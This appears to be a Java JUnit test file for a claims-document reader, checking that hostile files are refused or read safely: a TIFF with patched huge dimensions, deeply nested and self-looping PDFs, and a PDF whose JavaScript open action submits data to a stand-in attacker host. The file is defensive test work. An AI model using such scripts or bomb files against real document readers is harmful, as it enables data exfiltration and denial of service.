package cn.healthrisk.claims.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import cn.healthrisk.claims.document.UnreadableDocumentException.Reason;
import cn.healthrisk.claims.ocr.FakeOcrEngine;
import cn.healthrisk.claims.ocr.OcrEngineProvider;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * Formats and hostile documents: multi-page TIFF, a PDF that carries JavaScript, images and pages
 * declaring huge sizes, deeply nested and self-referencing PDFs. Each is read or refused on its
 * own, and the next document reads normally.
 */
class HostileDocumentsTest {

  private final OcrEngineProvider provider = new OcrEngineProvider("fake", FakeOcrEngine::new);
  private DocumentReader reader = new DocumentReader(
      new DocumentLimits(5L * 1024 * 1024, 4_000_000L, 3, Duration.ofSeconds(20)), provider);

  @AfterEach
  void close() {
    reader.close();
    provider.close();
  }

  @Test
  void multiPageTiffIsReadPageByPage() throws Exception {
    DocumentText text = reader.read("scan.tif", tiff(image(800, 600), image(600, 800)));
    assertThat(text.mediaType()).isEqualTo("image/tiff");
    assertThat(text.pages()).hasSize(2);
    assertThat(text.pages().get(0).width()).isGreaterThan(text.pages().get(0).height());
    assertThat(text.pages().get(1).width()).isLessThan(text.pages().get(1).height());
  }

  @Test
  void tiffWithTooManyPagesIsRefusedBeforeDecoding() throws Exception {
    byte[] tiff = tiff(image(100, 100), image(100, 100), image(100, 100), image(100, 100));
    assertThat(failure("many.tif", tiff).reason()).isEqualTo(Reason.TOO_MANY_PAGES);
  }

  @Test
  void tiffDeclaringHugeDimensionsIsRefusedFromItsHeader() throws Exception {
    // A 1x1 TIFF whose header is patched to claim 65535 x 65535 pixels (4 gigapixels).
    byte[] tiff = tiff(image(1, 1));
    patchTiffDimensions(tiff, 65535, 65535);
    assertThat(failure("bomb.tif", tiff).reason()).isEqualTo(Reason.TOO_MANY_PIXELS);
    assertReaderStillWorks();
  }

  @Test
  void pdfWithJavaScriptIsReadAsTextAndTheScriptIsNeverRun() throws Exception {
    byte[] pdf;
    try (PDDocument doc = new PDDocument()) {
      PDPage page = new PDPage(PDRectangle.A5);
      doc.addPage(page);
      try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
        cs.beginText();
        cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
        cs.newLineAtOffset(40, 500);
        cs.showText("No. 0012345678 TOTAL 128.50");
        cs.endText();
      }
      doc.getDocumentCatalog().setOpenAction(
          new PDActionJavaScript("app.alert('x'); this.submitForm('http://attacker.invalid/');"));
      pdf = save(doc);
    }
    DocumentText text = reader.read("script.pdf", pdf);
    assertThat(text.fullText()).contains("0012345678").doesNotContain("app.alert");
  }

  @Test
  void pdfPageDeclaringAHugeSizeIsRenderedWithinThePixelLimit() throws Exception {
    byte[] pdf;
    try (PDDocument doc = new PDDocument()) {
      doc.addPage(new PDPage(new PDRectangle(14400, 14400))); // 200 x 200 inches, no text layer
      pdf = save(doc);
    }
    DocumentText text = reader.read("huge.pdf", pdf);
    long pixels = (long) text.pages().get(0).width() * text.pages().get(0).height();
    assertThat(pixels).isLessThanOrEqualTo(4_000_000L);
  }

  @Test
  void deeplyNestedPdfIsCorruptNotACrash() throws Exception {
    StringBuilder body = new StringBuilder();
    body.append("[".repeat(200_000)).append("]".repeat(200_000));
    byte[] pdf = rawPdf("<< /Type /Catalog /Pages 2 0 R /Deep " + body + " >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>");
    UnreadableDocumentException e = failure("deep.pdf", pdf);
    assertThat(e.reason()).isIn(Reason.CORRUPT, Reason.EMPTY);
    assertReaderStillWorks();
  }

  @Test
  void pdfWhosePagesTreeRefersToItselfIsRefused() throws Exception {
    byte[] pdf = rawPdf("<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>");
    UnreadableDocumentException e = catchThrowableOfType(
        () -> reader.read("loop.pdf", pdf), UnreadableDocumentException.class);
    // Either refused, or read as the one real page: never a hang or a crash.
    if (e == null) {
      assertThat(reader.read("loop.pdf", pdf).pages()).hasSizeLessThanOrEqualTo(3);
    }
    assertReaderStillWorks();
  }

  @Test
  void selfReferencingFormXObjectDoesNotHangTheReader() throws Exception {
    String content = "q /F1 Do Q BT /Helv 12 Tf 20 100 Td (0012345678) Tj ET";
    String form = "q /F1 Do Q";
    byte[] pdf = rawPdf("<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R"
            + " /Resources << /XObject << /F1 5 0 R >> /Font << /Helv 6 0 R >> >> >>",
        "<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream",
        "<< /Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /F1 5 0 R >> >>"
            + " /Length " + form.length() + " >>\nstream\n" + form + "\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    UnreadableDocumentException e = catchThrowableOfType(
        () -> reader.read("recursive.pdf", pdf), UnreadableDocumentException.class);
    if (e != null) {
      assertThat(e.reason()).isIn(Reason.CORRUPT, Reason.TIMEOUT);
    }
    assertReaderStillWorks();
  }

  private void assertReaderStillWorks() throws Exception {
    DocumentText next = reader.read("next.png", png(image(400, 300)));
    assertThat(next.pages()).hasSize(1);
  }

  private UnreadableDocumentException failure(String name, byte[] content) {
    UnreadableDocumentException e =
        catchThrowableOfType(() -> reader.read(name, content), UnreadableDocumentException.class);
    assertThat(e).as("reading %s should fail", name).isNotNull();
    assertThat(e.getMessage()).isNotBlank();
    return e;
  }

  private static BufferedImage image(int w, int h) {
    BufferedImage img = new BufferedImage(w, h, BufferedImage.TYPE_INT_RGB);
    Graphics2D g = img.createGraphics();
    g.setColor(Color.WHITE);
    g.fillRect(0, 0, w, h);
    g.setColor(Color.BLACK);
    g.drawString("0012345678", Math.min(10, w / 2), Math.min(30, h / 2));
    g.dispose();
    return img;
  }

  private static byte[] png(BufferedImage image) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ImageIO.write(image, "png", out);
    return out.toByteArray();
  }

  /** A multi-page TIFF, uncompressed, written with the JDK's own TIFF plugin. */
  private static byte[] tiff(BufferedImage... pages) throws IOException {
    ImageWriter writer = ImageIO.getImageWritersByFormatName("tiff").next();
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ImageOutputStream out = ImageIO.createImageOutputStream(bytes)) {
      writer.setOutput(out);
      writer.prepareWriteSequence(null);
      for (BufferedImage page : pages) {
        writer.writeToSequence(new IIOImage(page, null, null), null);
      }
      writer.endWriteSequence();
    } finally {
      writer.dispose();
    }
    return bytes.toByteArray();
  }

  // Rewrites ImageWidth (256) and ImageLength (257) in the first IFD of a big-endian or
  // little-endian TIFF.
  private static void patchTiffDimensions(byte[] tiff, int width, int height) {
    boolean little = tiff[0] == 'I';
    int ifd = readInt(tiff, 4, 4, little);
    int entries = readInt(tiff, ifd, 2, little);
    for (int i = 0; i < entries; i++) {
      int at = ifd + 2 + i * 12;
      int tag = readInt(tiff, at, 2, little);
      int type = readInt(tiff, at + 2, 2, little);
      if (tag == 256 || tag == 257) {
        int value = tag == 256 ? width : height;
        writeInt(tiff, at + 8, type == 3 ? 2 : 4, value, little);
      }
    }
  }

  private static int readInt(byte[] b, int at, int n, boolean little) {
    int v = 0;
    for (int i = 0; i < n; i++) {
      int byteValue = b[at + (little ? n - 1 - i : i)] & 0xff;
      v = (v << 8) | byteValue;
    }
    return v;
  }

  private static void writeInt(byte[] b, int at, int n, int value, boolean little) {
    for (int i = 0; i < n; i++) {
      int shift = 8 * (little ? i : n - 1 - i);
      b[at + i] = (byte) (value >>> shift);
    }
  }

  /** A PDF from numbered object bodies (1 0 obj ...), with a correct cross-reference table. */
  private static byte[] rawPdf(String... objects) {
    StringBuilder sb = new StringBuilder("%PDF-1.7\n");
    List<Integer> offsets = new ArrayList<>();
    for (int i = 0; i < objects.length; i++) {
      offsets.add(sb.toString().getBytes(StandardCharsets.ISO_8859_1).length);
      sb.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
    }
    int xref = sb.toString().getBytes(StandardCharsets.ISO_8859_1).length;
    sb.append("xref\n0 ").append(objects.length + 1).append("\n0000000000 65535 f \n");
    for (int offset : offsets) {
      sb.append(String.format("%010d 00000 n \n", offset));
    }
    sb.append("trailer\n<< /Size ").append(objects.length + 1).append(" /Root 1 0 R >>\nstartxref\n")
        .append(xref).append("\n%%EOF\n");
    return sb.toString().getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] save(PDDocument doc) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    doc.save(out);
    return out.toByteArray();
  }
}
